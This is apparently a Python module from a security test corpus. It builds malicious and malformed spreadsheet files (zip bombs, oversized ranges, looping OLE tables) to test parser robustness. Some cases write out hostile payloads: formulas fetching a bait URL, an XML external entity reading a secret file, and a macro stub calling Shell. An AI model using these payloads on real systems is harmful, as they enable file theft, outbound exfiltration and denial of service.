"""Workbooks: billions of cells in a few bytes, formulas that fetch, records that lie."""

from __future__ import annotations

import struct

from hostile.corpus.case import Bait, case, deflated, fixed
from hostile.corpus.zips import Entry, forged, packed

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def _workbook(sheets: int) -> dict[str, str]:
    listed = "".join(f'<sheet name="s{n}" sheetId="{n + 1}" r:id="r{n}"/>' for n in range(sheets))
    goals = "".join(
        f'<Relationship Id="r{n}" Type="{_R}/worksheet" Target="worksheets/sheet1.xml"/>' for n in range(sheets)
    )
    return {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r" Type="{_R}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_R}"><sheets>{listed}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}">{goals}</Relationships>',
    }


def _xlsx(data: str, after: str = "", sheets: int = 1, **parts: str) -> bytes:
    sheet = f'<worksheet xmlns="{_MAIN}"><sheetData>{data}</sheetData>{after}</worksheet>'
    return packed(
        _workbook(sheets) | {"xl/worksheets/sheet1.xml": sheet} | {f"xl/{n}.xml": d for n, d in parts.items()}
    )


def _cell(place: str, value: str = "1", kind: str = "n") -> str:
    return f'<c r="{place}" t="{kind}"><v>{value}</v></c>'


fixed(
    "sheets/two cells a billion apart",
    _xlsx(f'<row r="1">{_cell("A1")}</row><row r="1048576">{_cell("XFD1048576")}</row>'),
)
fixed("sheets/dimension of all cells", _xlsx('<row r="1"/>', '<dimension ref="A1:XFD1048576"/>'))
fixed("sheets/cells beyond the last", _xlsx(f'<row r="99999999">{_cell("ZZZZ99999999")}</row>'))
fixed("sheets/row numbers that fall", _xlsx(f'<row r="9">{_cell("B9")}</row><row r="1">{_cell("A1")}</row>'))
fixed("sheets/merged ranges without end", lambda: _xlsx(
    f'<row r="1">{_cell("A1")}</row>', '<mergeCells>' + '<mergeCell ref="A1:XFD1048576"/>' * 2000 + '</mergeCells>',
))  # fmt: skip
fixed("sheets/string that is not there", _xlsx(f'<row r="1">{_cell("A1", str(1 << 31), "s")}</row>'))
fixed("sheets/hidden columns without end", _xlsx(
    f'<row r="1">{_cell("A1")}</row>', '<cols><col min="1" max="999999999" hidden="1"/></cols>'))  # fmt: skip
fixed(
    "sheets/number of a million digits",
    lambda: _xlsx(f'<row r="1">{_cell("A1", "9" * 1_000_000)}</row>'),
)
fixed("sheets/not a number", _xlsx(f'<row r="1">{_cell("A1", "NaN")}{_cell("B1", "1e999")}</row>'))
fixed("sheets/5000 sheets", lambda: _xlsx("<row/>", sheets=5000))
fixed("sheets/300,000 cells", lambda: _xlsx("".join(
    f'<row r="{n}">{"".join(_cell(f"{c}{n}") for c in "ABCDEFGHIJ")}</row>' for n in range(1, 30_001)
)), slow=True)  # fmt: skip
fixed("sheets/no workbook", packed({"xl/nothing.xml": "<x/>"}))
fixed("sheets/sheet bomb", lambda: forged([
    *(Entry(name.encode(), data.encode()) for name, data in _workbook(1).items()),
    Entry(b"xl/worksheets/sheet1.xml", deflated(1024), 1 << 30, 8),
]))  # fmt: skip
fixed("sheets/strings bomb that says it is small", lambda: forged([
    *(Entry(name.encode(), data.encode()) for name, data in _workbook(1).items()),
    Entry(b"xl/worksheets/sheet1.xml", f'<worksheet xmlns="{_MAIN}"><sheetData/></worksheet>'.encode()),
    Entry(b"xl/sharedStrings.xml", deflated(2048), 1000, 8),
]))  # fmt: skip
fixed("sheets/name as markup", _xlsx('<row r="1"/>').replace(b"s0", b"<>"))


@case("sheets/formulas that fetch")
def _fetching(bait: Bait) -> bytes:
    formula = f"WEBSERVICE(&quot;{bait.url}/x&quot;)&amp;[{bait.url}/book.xlsx]s!A1"
    return _xlsx(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>', externalLink1=f'<x r="{bait.url}"/>')


@case("sheets/entities")
def _entities(bait: Bait) -> bytes:
    book = _workbook(1)
    dtd = f'<!DOCTYPE w [<!ENTITY x SYSTEM "file://{bait.secret}">]>'
    sheet = f'{dtd}<worksheet xmlns="{_MAIN}"><sheetData><row r="1"><c r="A1" t="str"><v>&x;</v></c></row></sheetData></worksheet>'
    return packed(book | {"xl/worksheets/sheet1.xml": sheet})


@case("sheets/macros (xlsm)")
def _macros(bait: Bait) -> bytes:
    book = _workbook(1) | {"xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_MAIN}"><sheetData/></worksheet>'}
    return packed(book | {"xl/vbaProject.bin": f"Shell {bait.target}" * 50})


def _ole(table: bytes, directory: int = 1, rest: bytes = b"") -> bytes:
    """An OLE container whose allocation table is this."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", head, 40, 0, 1, directory, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<109I", head, 76, 0, *([0xFFFFFFFF] * 108))
    return bytes(head) + table.ljust(512, b"\xff") + rest


def _entry(
    name: str, kind: int, child: int = 0xFFFFFFFF, start: int = 0, size: int = 0, side: int = 0xFFFFFFFF
) -> bytes:
    raw = name.encode("utf-16-le")
    return (
        raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw) + 2, kind, 1, side, side, child)
        + bytes(36) + struct.pack("<IQ", start, size)
    )  # fmt: skip


_LOOP = struct.pack("<4I", 0xFFFFFFFD, 1, 1, 2)
fixed(
    "sheets/OLE directory in a circle",
    _ole(_LOOP, rest=_entry("Root Entry", 5, 1) + _entry("Workbook", 2, side=1)),
)
fixed("sheets/OLE stream in a circle", _ole(
    struct.pack("<4I", 0xFFFFFFFD, 0xFFFFFFFE, 2, 2),
    rest=_entry("Root Entry", 5, 1) + _entry("Workbook", 2, start=2, size=1 << 30) + bytes(256) + bytes(512),
))  # fmt: skip
fixed("sheets/OLE sector size of 2^60", _ole(_LOOP)[:30] + b"\x3c\0" + _ole(_LOOP)[32:])
fixed("sheets/OLE tables without end", _ole(_LOOP)[:44] + struct.pack("<I", 0xFFFFFFF0) + _ole(_LOOP)[48:])
fixed("sheets/OLE head alone", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
fixed("sheets/OLE of nonsense", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 64)
